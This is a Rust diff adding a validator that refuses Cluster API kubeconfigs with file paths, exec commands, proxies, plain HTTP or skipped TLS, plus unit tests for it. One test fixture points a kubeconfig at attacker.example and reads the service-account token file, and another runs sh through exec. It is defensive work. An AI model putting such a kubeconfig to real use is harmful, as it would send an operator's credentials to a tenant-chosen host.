@@ -258,8 +258,8 @@ impl WorkloadClusters {
     }
 }
 
-/// A client from Cluster API's kubeconfig Secret (key `value`). Exec and auth-provider
-/// credentials are refused, as Cluster API's cluster cache refuses them.
+/// A client from Cluster API's kubeconfig Secret (key `value`), which must be self-contained
+/// ([`self_contained`]).
 async fn client_from_secret(secret: &Secret) -> Result<Client, String> {
     let bytes = secret
         .data
@@ -269,17 +269,71 @@ async fn client_from_secret(secret: &Secret) -> Result<Client, String> {
     let text = std::str::from_utf8(&bytes.0).map_err(|_| "its value is not UTF-8")?;
     let kubeconfig = kube::config::Kubeconfig::from_yaml(text)
         .map_err(|e| format!("its value is not a kubeconfig: {e}"))?;
-    if kubeconfig.auth_infos.iter().any(|a| {
-        a.auth_info
-            .as_ref()
-            .is_some_and(|i| i.exec.is_some() || i.auth_provider.is_some())
-    }) {
-        return Err("exec and auth-provider credentials are not supported".into());
-    }
+    self_contained(&kubeconfig)?;
     let config = kube::Config::from_custom_kubeconfig(kubeconfig, &Default::default())
         .await
         .map_err(|e| format!("unusable kubeconfig: {e}"))?;
     Client::try_from(config).map_err(|e| format!("cannot build a client: {e}"))
+}
+
+/// Checks that a kubeconfig from a Secret carries everything inline and verifies its server:
+/// whoever can write a Secret in a tenant namespace writes it, so a file path (a token, a
+/// certificate or key, a CA), a command (exec, auth-provider), a proxy, a plain-HTTP server or
+/// skipped TLS verification would let that tenant make the operator read its own files and send
+/// its credentials elsewhere. Cluster API writes such kubeconfigs with inline data only.
+fn self_contained(kubeconfig: &kube::config::Kubeconfig) -> Result<(), String> {
+    let mut refused = Vec::new();
+    for named in &kubeconfig.clusters {
+        let Some(cluster) = &named.cluster else {
+            continue;
+        };
+        let name = &named.name;
+        if cluster.certificate_authority.is_some() {
+            refused.push(format!(
+                "cluster {name:?}: certificate-authority (a file path)"
+            ));
+        }
+        if cluster.insecure_skip_tls_verify == Some(true) {
+            refused.push(format!("cluster {name:?}: insecure-skip-tls-verify"));
+        }
+        if cluster.proxy_url.is_some() {
+            refused.push(format!("cluster {name:?}: proxy-url"));
+        }
+        if let Some(server) = &cluster.server
+            && !server.starts_with("https://")
+        {
+            refused.push(format!("cluster {name:?}: a server that is not https://"));
+        }
+    }
+    for named in &kubeconfig.auth_infos {
+        let Some(user) = &named.auth_info else {
+            continue;
+        };
+        let name = &named.name;
+        let fields = [
+            (user.token_file.is_some(), "tokenFile (a file path)"),
+            (
+                user.client_certificate.is_some(),
+                "client-certificate (a file path)",
+            ),
+            (user.client_key.is_some(), "client-key (a file path)"),
+            (user.exec.is_some(), "exec (a command)"),
+            (user.auth_provider.is_some(), "auth-provider"),
+        ];
+        for (present, field) in fields {
+            if present {
+                refused.push(format!("user {name:?}: {field}"));
+            }
+        }
+    }
+    if refused.is_empty() {
+        Ok(())
+    } else {
+        Err(format!(
+            "a workload cluster's kubeconfig must carry its server, CA, and credentials inline and verify TLS; refused: {}",
+            refused.join(", ")
+        ))
+    }
 }
 
 /// Watches the Nodes of one cluster, tracking whether it is reachable.
@@ -362,5 +416,76 @@ fn watch_nodes(
         state,
         secret_version,
         shutdown,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kubeconfig(cluster: &str, user: &str) -> kube::config::Kubeconfig {
+        let text = format!(
+            "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n{cluster}\nusers:\n- name: u\n  user:\n{user}\ncontexts:\n- name: x\n  context: {{cluster: c, user: u}}\ncurrent-context: x\n"
+        );
+        kube::config::Kubeconfig::from_yaml(&text).expect("a kubeconfig")
+    }
+
+    const SERVER: &str = "    server: https://10.0.0.1:6443\n    certificate-authority-data: Y2E=";
+
+    #[test]
+    fn cluster_api_kubeconfigs_with_inline_data_are_accepted() {
+        let inline = kubeconfig(
+            SERVER,
+            "    client-certificate-data: Y2VydA==\n    client-key-data: a2V5",
+        );
+        assert_eq!(self_contained(&inline), Ok(()));
+        let token = kubeconfig(SERVER, "    token: abc");
+        assert_eq!(self_contained(&token), Ok(()));
+    }
+
+    /// A tenant's Secret that would make the operator read its own service-account token and
+    /// send it to a server of the tenant's choosing.
+    #[test]
+    fn a_kubeconfig_naming_local_files_or_weakening_tls_is_refused() {
+        let hostile = kubeconfig(
+            "    server: https://attacker.example:443\n    certificate-authority: /etc/ssl/certs/ca.crt",
+            "    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token",
+        );
+        let error = self_contained(&hostile).expect_err("refused");
+        assert!(error.contains("tokenFile"), "{error}");
+        assert!(
+            error.contains("certificate-authority (a file path)"),
+            "{error}"
+        );
+        for (cluster, user, named) in [
+            (
+                SERVER,
+                "    client-certificate: /tmp/c\n    client-key: /tmp/k",
+                "client-key",
+            ),
+            (
+                SERVER,
+                "    exec: {command: sh, apiVersion: client.authentication.k8s.io/v1}",
+                "exec",
+            ),
+            (
+                "    server: https://10.0.0.1:6443\n    insecure-skip-tls-verify: true",
+                "    token: abc",
+                "insecure-skip-tls-verify",
+            ),
+            (
+                "    server: https://10.0.0.1:6443\n    certificate-authority-data: Y2E=\n    proxy-url: http://10.0.0.9:3128",
+                "    token: abc",
+                "proxy-url",
+            ),
+            (
+                "    server: http://10.0.0.1:8080",
+                "    token: abc",
+                "not https",
+            ),
+        ] {
+            let error = self_contained(&kubeconfig(cluster, user)).expect_err(named);
+            assert!(error.contains(named), "{named}: {error}");
+        }
     }
 }
